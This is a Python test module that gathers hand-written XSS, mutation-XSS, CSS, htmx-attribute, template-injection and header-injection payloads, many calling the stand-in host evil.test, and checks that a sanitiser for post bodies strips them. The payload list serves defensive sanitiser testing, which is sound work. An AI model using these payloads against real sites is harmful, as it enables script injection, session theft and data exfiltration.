"""Hostile words, of every class that we know, and what markup may come of them: none.

Each vector, if a browser took it for markup, would set `ran` on its window, ask
`evil.test` for something, or bend our own page. Written by hand for this project.
"""

import re
from urllib.parse import urlsplit

from lxml import etree
from lxml import html as lxml_html

from tests.reader import parse

RUN = "window.ran=1"
EVIL = "https://evil.test"

ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<SCRIPT/x>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0c>{RUN}</script\x0c>",
    f"<script type=speculationrules>{{'prefetch':[{{'urls':['{EVIL}/s']}}]}}</script>",
    f"<script type=importmap>{{'imports':{{'./x.js':'{EVIL}/i.js'}}}}</script>",
    f"<iframe src={EVIL}/frame></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src='javascript:parent.ran=1'></iframe>",
    f"<frameset onload={RUN}><frame src={EVIL}/f></frameset>",
    f"<object data={EVIL}/o></object><object data='javascript:{RUN}'></object>",
    f"<embed src={EVIL}/e><embed src='javascript:{RUN}'>",
    f"<applet code={EVIL}/a></applet>",
    f"<portal src={EVIL}/p></portal><fencedframe src={EVIL}/p></fencedframe>",
    f"<link rel=stylesheet href={EVIL}/s.css>",
    f"<link rel=preload as=script href={EVIL}/p>",
    f"<link rel=import href={EVIL}/i><link rel=manifest href={EVIL}/m>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/r'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    f"<base href={EVIL}/><base target=_blank>",
    f"<img src={EVIL}/i.png><img srcset='{EVIL}/s.png 1x'><image src={EVIL}/j.png>",
    f"<picture><source srcset={EVIL}/p.png><img></picture>",
    f"<video src={EVIL}/v poster={EVIL}/p autoplay></video>",
    f"<audio src={EVIL}/a autoplay>",
    f"<input type=image src={EVIL}/i><bgsound src={EVIL}/b>",
    f"<table background={EVIL}/t><tr><td background={EVIL}/d>cell</td></tr></table>",
    f"<form action={EVIL}/f method=post><input name=at><button>Go</button></form>",
    f"<button formaction='javascript:{RUN}' form=search>Go</button>",
    "<form id=poller><input name=nodeName><input name=attributes></form>",
    f"<isindex action='javascript:{RUN}' type=submit>",
    f"<template><script>{RUN}</script></template><slot name=x></slot>",
    f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>m</marquee><blink>b</blink>",
    f"<details open ontoggle={RUN}><summary>s</summary></details>",
    f"<dialog open onclose={RUN}>over all</dialog><x-widget onclick={RUN}></x-widget>",
    f"<div popover=auto id=pop onbeforetoggle={RUN}>p</div>",
    f"<select><option onclick={RUN}>o</option></select><keygen autofocus>",
]
ATTRIBUTES = [
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x:x onerror\x0b={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f"<p onclick={RUN} onpointerenter={RUN} onfocus={RUN} tabindex=0 autofocus>p</p>",
    f"<p contenteditable onbeforeinput={RUN} accesskey=x>p</p>",
    f"<a href=# onanimationstart={RUN} style='animation:x 1s'>a</a>",
    f"<body onload={RUN}><html onmouseover={RUN}>",
    f'" onmouseover={RUN} x="',
    f"' onmouseover={RUN} x='",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</noscript></template></select></table></svg><script>{RUN}</script>",
    f"<a\nhref\n=\n'x'\nonclick\n=\n{RUN}\n>a</a>",
    f"<img src='x'onerror='{RUN}'>",
    f"<<img src=x onerror={RUN}//<",
    f"<p/onclick={RUN}><p \x00onclick={RUN}>n</p>",
    f"＜img src=x onerror={RUN}＞ &lt;img src=x onerror={RUN}&gt;",
    f"&#60;img src=x onerror={RUN}&#62; &#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;",
    f"%3Cscript%3E{RUN}%3C/script%3E \\u003cscript\\u003e{RUN}",
]
ADDRESSES = [
    f"<a href='javascript:{RUN}'>a</a>",
    f"<a href='JaVaScRiPt:{RUN}'>a</a>",
    f"<a href='java\tscript:{RUN}'>a</a>",
    f"<a href='java\nscript:{RUN}'>a</a>",
    f"<a href=' \x01javascript:{RUN}'>a</a>",
    f"<a href='&#106;avascript&colon;{RUN}'>a</a>",
    f"<a href='java&Tab;script&NewLine;:{RUN}'>a</a>",
    f"<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{RUN}'>a</a>",
    f"<a href='javascript&#0000058{RUN}'>a</a>",
    f"<a href='jav\u00adascript:{RUN}'>a</a><a href='ｊavascript:{RUN}'>a</a>",
    f"<a href='vbscript:{RUN}'>a</a><a href='livescript:{RUN}'>a</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>a</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>a</a>",
    "<a href='blob:https://evil.test/1'>a</a><a href='filesystem:x'>a</a>",
    "<a href='view-source:x'>a</a><a href='file:///etc/passwd'>a</a>",
    "<a href='ftp://evil.test/'>a</a><a href='intent:x'>a</a><a href='tel:1'>a</a>",
    f"<a href='{EVIL}/' target=_top ping={EVIL}/ping rel=opener download>a</a>",
    "<a href='//evil.test/'>a</a><a href='\\\\evil.test\\x'>a</a>",
    "<a href='http://a@evil.test:80/'>a</a><a href='https:evil.test'>a</a>",
    f"<a xlink:href='javascript:{RUN}'>a</a><a href>a</a>",
    f"<area href='javascript:{RUN}'><map name=m><area href={EVIL}></map>",
    f"<blockquote cite='javascript:{RUN}'>b</blockquote>",
    f"javascript:{RUN}",
    f"[a](javascript:{RUN}) ![x]({EVIL}/m.png) <javascript:{RUN}>",
    '=HYPERLINK("https://evil.test","a")',
]
NAMESPACES = [
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>a</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a><set attributeName=href to='javascript:{RUN}'/>x</a></svg>",
    f"<svg><use href='{EVIL}/u.svg#x'/><image href='{EVIL}/i.svg'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.ran=1</script>'>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<svg><desc><noscript>&lt;/noscript&gt;&lt;img src=x onerror={RUN}&gt;",
    f"<svg><title><a title='</title><img src=x onerror={RUN}>'></title></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
    f"onerror={RUN}&gt;'>",
    f"<math><mi><p><mglyph><svg><mtext><style><path id='</style><img onerror={RUN} "
    "src=x>'>",
    f"<math href='javascript:{RUN}'><maction actiontype=toggle>m</maction></math>",
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<table><tr><td><table><caption><svg><desc></caption><img src=x onerror={RUN}>",
    f"<select><template><svg><style></select><img src=x onerror={RUN}>",
    f"<p><svg><p><style><g title='</style><img src=x onerror={RUN}>'></g></svg>",
]
STYLES = [
    f"<style>*{{background:url({EVIL}/s)}}</style>",
    f"<style>@import '{EVIL}/i.css';</style>",
    "<style>body{display:none}#feed,.post{position:fixed;inset:0}</style>",
    f"<p style='background:url({EVIL}/b);position:fixed;inset:0;z-index:9'>over</p>",
    "<p style='width:expression(alert(1));behavior:url(x)'>e</p>",
    "<p class='pill post visually-hidden is-marked'>c</p>",
    "<ul class='context pill'><li class=masthead>c</li></ul>",
    "<font size=99 color=red>big</font><center>c</center><p align=right dir=rtl>d</p>",
    "<pre style='margin-left:-9999px'>" + "w" * 400 + "</pre>",
    "w" * 300,
    "<p hidden>h</p><p inert>i</p><td width=9999>w</td></article></section></main>",
    "</div></div></article></li></ul></section><article id=post-1>out</article>",
    "</span></h3></header></article><div id=feed data-newer-edge=9></div>",
]
OURS = [
    "<p id=feed>f</p><p id=poller>p</p><p id=live>l</p><p id=post-1>1</p>",
    "<a id=htmx name=htmx href=x>h</a><form name=body></form><img name=getElementById>",
    "<p data-hx-get=/admin/ data-hx-trigger=load>h</p>",
    f"<p hx-get={EVIL} hx-trigger=load hx-swap=innerHTML>h</p>",
    f"<p hx-on:load='{RUN}' hx-on::load='{RUN}' data-hx-on--load='{RUN}'>h</p>",
    f"<p hx-vals='js:{{x:{RUN}}}' hx-headers='js:{{}}' hx-vars='{RUN}'>v</p>",
    "<div hx-swap-oob=delete id=feed></div><div data-hx-swap-oob=true id=title>t</div>",
    "<div data-hx-ext=live-feed hx-disinherit=* hx-boost=true hx-push-url=true>e</div>",
    "<p class=embed data-kind=frame data-player=javascript:1><a class=embed-card>e",
    "<p itemprop=headline itemscope itemtype=https://schema.org/BlogPosting>s</p>",
    "<p role=alert aria-live=assertive aria-hidden=true aria-owns=feed lang=xx>r</p>",
    "<p is=x-y slot=s part=p exportparts=p translate=no draggable=true>w</p>",
    "{{ 7*7 }} {% load x %} ${7*7} <%= 7*7 %> #{7*7} {{page.created_by.password}}",
]
SIGNS = [
    "\u202egnirts desrever\u202d \u2067isolate\u2066 \u061c\u200f\u200e",
    "zero\u200bwidth\u2060\ufeff\u00ad and Z̸̢̛͇̤͖̱̦͔̗a̷l̷g̷o" + "\u0301" * 60,
    "\x00\x01\x08\x0b\x0c\x1b[31m\x7f\x85\u2028\u2029\ufffe\uffff",
    f"<!--><img src=x onerror={RUN}>--> <!--[if IE]><script>{RUN}</script><![endif]-->",
    f"<!-- --!><img src=x onerror={RUN}> --> <!DOCTYPE x> <!ENTITY x>",
    f"<![CDATA[<script>{RUN}</script>]]> ]]> <?xml-stylesheet href={EVIL}/x?> <?php ?>",
    f"</script><script>{RUN}</script><!--<script>",
    f"<%{RUN}%> <//script> </ script> </> <>",
    "\r\nSet-Cookie: evil=1\r\n\r\n<p>x",
    "a&amp;lt;b &amp;#60; &#0; &#xD800; &#x110000; &NotAnEntity; &ampx &copy",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4- \xf0\x28\x8c\x28",
]
CLASSES = {
    "elements": ELEMENTS,
    "attributes": ATTRIBUTES,
    "addresses": ADDRESSES,
    "namespaces": NAMESPACES,
    "styles": STYLES,
    "ours": OURS,
    "signs": SIGNS,
}
VECTORS = [vector for vectors in CLASSES.values() for vector in vectors]

# What stands where an address does: script, other schemes, other hosts.
BAD_ADDRESSES = [
    f"javascript:{RUN}",
    f" java\nscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "ftp://evil.test/x",
    "//evil.test/x",
    f'https://evil.test/"><script>{RUN}</script>',
    "https://www.youtube.com@evil.test/watch?v=abcdefghijk",
    "https://youtube.com.evil.test/watch?v=abcdefghijk",
    "https://mastodon.social.evil.test/@a/1",
    f"https://mastodon.social/@a/1/../../x?{RUN}",
    'https://www.youtube.com/watch?v="onload=x//',
    "https://player.vimeo.com:444/video/1",
    "http://127.0.0.1:1/x.mp4",
    "https://[::1/x.mp4",
    "mailto:x@evil.test",
]

# The elements and attributes of a body, as the policy of posts/bodies.py has them.
BODY = {"p", "br", "strong", "em", "a", "ul", "ol", "li", "blockquote"}
BODY |= {"html", "body", ("a", "href"), ("a", "rel"), ("ul", "class")}
BODY |= {("ol", "start")}
SCHEMES = {"", "http", "https", "mailto"}
LOADED = ("src", "srcset", "poster", "data", "action", "formaction", "background")
_SOURCE = re.compile(r"\s*([^\s,]+)[^,]*")


def shape(markup):
    """The elements and attributes of MARKUP: a set of names and (name, attribute)."""
    found = set()
    for element in elements(markup):
        found.add(element.tag)
        found.update((element.tag, name) for name in element.attrib)
    return found


def elements(markup):
    """All elements of MARKUP, which may be empty."""
    if markup.strip():
        yield from lxml_html.document_fromstring(markup).iter(etree.Element)


def trouble(markup, origin="http://testserver"):
    """What in MARKUP a browser might follow or load but should not, and double ids."""
    wrong, ids = [], []
    for element in elements(markup):
        for name, value in element.attrib.items():
            if name == "href" and not is_followed(value):
                wrong.append((element.tag, name, value))
            if name in LOADED:
                for address in _SOURCE.findall(value):
                    if not is_ours(address, origin):
                        wrong.append((element.tag, name, address))
            if name.startswith(("on", "hx-", "data-hx-on")) or name == "style":
                wrong.append((element.tag, name, value))
        ids += [element.get("id")] * ("id" in element.attrib)
    return wrong + [("id", one) for one in {*ids} if ids.count(one) > 1]


def refused(body):
    """What in BODY, as it is stored or sent, the policy does not know."""
    classes = {name for one in parse(body)("ul") for name in one.get("class", [])}
    return (shape(body) - BODY, trouble(body), classes - {"context", ""})


def is_followed(address):
    """Whether a link may lead to ADDRESS, as browsers read it."""
    bare = re.sub(r"[\x00-\x20\x7f-\x9f]", "", address)
    return urlsplit(bare).scheme.lower() in SCHEMES


def is_ours(address, origin):
    """Whether ADDRESS, as browsers read it, is on the site itself, or data."""
    bare = re.sub(r"[\t\r\n]", "", address).strip().replace("\\", "/")
    if bare.startswith("//"):
        return False
    parts = urlsplit(bare)
    return not parts.scheme or bare.startswith((f"{origin}/", "data:image/"))
